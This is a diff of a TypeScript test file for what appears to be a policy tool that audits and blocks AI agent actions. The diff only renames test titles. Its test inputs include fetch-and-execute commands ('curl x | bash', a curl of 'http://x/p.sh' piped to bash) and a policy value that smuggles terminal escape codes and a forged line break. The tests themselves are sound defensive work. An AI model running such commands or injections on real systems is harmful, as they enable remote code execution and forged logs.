@@ -6,7 +6,7 @@ import { run, scratch } from "./command.js";
 import { attack, audits, BENIGN, ESCALATION, METADATA, totals } from "./events.js";
 
 describe("decisions", () => {
-  it("writes the audit line of the interface, and the deny-file", async () => {
+  it("writes the documented audit line, and the deny-file", async () => {
     const cwd = scratch();
     const { code, stdout, stderr } = await run(["run", "--exec-deny", "exec.txt"], BENIGN + attack("/usr/bin", "py"), {
       cwd,
@@ -24,7 +24,7 @@ describe("decisions", () => {
     );
   });
 
-  it("says at the start what it does, and warns loudly of fail-open", async () => {
+  it("prints its settings at the start, and warns of fail-open", async () => {
     const { stderr } = await run(["run", "--exec-deny", "x.txt"], "");
     const [first, second] = stderr.split("\n");
     expect(first).toMatch(
@@ -33,7 +33,7 @@ describe("decisions", () => {
     expect(second).toMatch(/^WARNING: rules only and fail-open: EVERY ESCALATION WILL BE ALLOWED/);
   });
 
-  it("lets an escalation take the fail mode", async () => {
+  it("applies the fail mode to an escalation", async () => {
     const open = await run(["run"], ESCALATION);
     expect(audits(open.stdout)[0]?.decision).toMatchObject({
       verdict: "allow",
@@ -50,7 +50,7 @@ describe("decisions", () => {
     expect(closed.stderr).not.toContain("WARNING");
   });
 
-  it("cuts a subject to 300 bytes at a whole character, and makes no line or terminal command of it", async () => {
+  it("cuts a subject to 300 bytes between characters, and escapes line breaks and control characters", async () => {
     const argv = ["curl x | bash", `\u2028\u009b\u202ea${"ö".repeat(400)}`];
     const { stdout } = await run(["run"], JSON.stringify({ event: { ToolExec: { pid: 1, argv } } }));
     const subject = audits(stdout)[0]?.subject ?? "";
@@ -59,7 +59,7 @@ describe("decisions", () => {
     expect(stdout).toContain("\\u2028\\u009b\\u202e");
   });
 
-  it("makes no line or terminal command of what a policy names", async () => {
+  it("escapes line breaks and control characters in names from a policy", async () => {
     const cwd = scratch();
     writeFileSync(join(cwd, "p.acl"), 'deny { exec = "no/\\u001b]0;owned\\u0007\\nforged" }\n');
     const { stderr } = await run(["run", "-c", "p.acl"], attack(), { cwd });
@@ -68,7 +68,7 @@ describe("decisions", () => {
     expect(stderr).not.toMatch(/(?!\n)\p{Cc}/u);
   });
 
-  it("says of a target that no deny-file takes only that it is blocked", async () => {
+  it("reports a target that no deny-file takes as blocked only", async () => {
     const cwd = scratch();
     const event = { ToolExec: { pid: 1, argv: ["curl", "http://x/p.sh", "|", "bash"] } };
     const { stdout, stderr } = await run(["run", "--exec-deny", "x.txt"], JSON.stringify({ event }), { cwd });
@@ -122,7 +122,7 @@ describe("settings", () => {
     expect(stderr.split("\n")[0]).toContain("deny-files egress=c-e file=v-f exec=x");
   });
 
-  it("of a configuration elsewhere start at its folder", async () => {
+  it("in a configuration start at its folder", async () => {
     const cwd = scratch();
     mkdirSync(join(cwd, "etc"));
     writeFileSync(join(cwd, "etc/c.toml"), '[deny]\nexec = "x.txt"\n');
@@ -131,7 +131,7 @@ describe("settings", () => {
     expect(readFileSync(join(cwd, "etc/x.txt"), "utf8")).toBe("/usr/bin/curl\n");
   });
 
-  it("of two files are put together", async () => {
+  it("of two files are merged", async () => {
     const cwd = scratch();
     mkdirSync(join(cwd, "etc"));
     writeFileSync(join(cwd, "etc/c.acl"), 'fail_closed = true  deny { exec = "x.txt" }');
@@ -167,7 +167,7 @@ describe("settings", () => {
     expect(stderr).toMatch(why);
   });
 
-  it("that are no policy end the start, with every problem and no stack", async () => {
+  it("with an invalid policy stop the start, with every problem and no stack", async () => {
     const cwd = scratch();
     writeFileSync(join(cwd, "p.acl"), "fail_closd = true\ndry_rn = true\n");
     const { code, stdout, stderr } = await run(["run", "-p", "p.acl"], attack(), { cwd });
@@ -178,22 +178,22 @@ describe("settings", () => {
   });
 });
 
-describe("lines that are skipped", () => {
+describe("skipped lines", () => {
   it.each<[string, string | Uint8Array, string]>([
     ["logs of other tools", "starting up\n[1,2]\n\n{}\n", "4 malformed"],
     ["invalid UTF-8", Uint8Array.of(0x7b, 0xff, 0xfe, 0x0a), "1 malformed"],
     ["a line of 300 KiB", `{"event":{"Dns":{"pid":1,"query":"${"x".repeat(300 * 1024)}"}}}\n`, "1 over 256 KiB"],
     ["a line of 10 MB", `{"event":{"Dns":{"pid":1,"query":"${"x".repeat(10_000_000)}"}}}\n`, "1 over 256 KiB"],
     ["deep nesting", `{"event":${"[".repeat(10_000)}\n`, "1 malformed"],
-    ["what is not judged", '{"event":{"ProcessExit":{"pid":1}}}\n', "1 with nothing to judge"],
-  ])("%s: told, and the next is judged", async (_, input, told) => {
+    ["an event with nothing to judge", '{"event":{"ProcessExit":{"pid":1}}}\n', "1 with nothing to judge"],
+  ])("%s: counted, and the next line is judged", async (_, input, count) => {
     const { code, stdout, stderr } = await run(["run"], Buffer.concat([Buffer.from(input), Buffer.from(METADATA)]));
     expect(code).toBe(0);
     expect(audits(stdout).map(({ decision }) => decision.rule)).toEqual(["cloud-metadata"]);
-    expect(totals(stderr)).toContain(told);
+    expect(totals(stderr)).toContain(count);
   });
 
-  it("a line is not one of them up to 256 KiB, its end not counted, and is from one byte more", async () => {
+  it("do not include a line of 256 KiB without its end, but one of a byte more", async () => {
     const line = (bytes: number) => `${METADATA.trimEnd().padEnd(bytes)}\n`;
     const { stdout, stderr } = await run(["run"], line(262_143) + line(262_144) + line(262_145) + BENIGN);
     expect(audits(stdout)).toHaveLength(2);
@@ -201,14 +201,14 @@ describe("lines that are skipped", () => {
     expect(totals(stderr)).toContain("lines skipped: 1 over 256 KiB");
   });
 
-  it("10 MB without any newline are one of them", async () => {
+  it("include 10 MB without a newline", async () => {
     const { code, stdout, stderr } = await run(["run"], "x".repeat(10_000_000));
     expect([code, stdout]).toEqual([0, ""]);
     expect(totals(stderr)).toContain("0 events judged");
     expect(totals(stderr)).toContain("lines skipped: 1 over 256 KiB");
   });
 
-  it("a last line without newline is not one of them", async () => {
+  it("do not include a last line without newline", async () => {
     const { stdout } = await run(["run"], METADATA.trimEnd());
     expect(audits(stdout)).toHaveLength(1);
   });
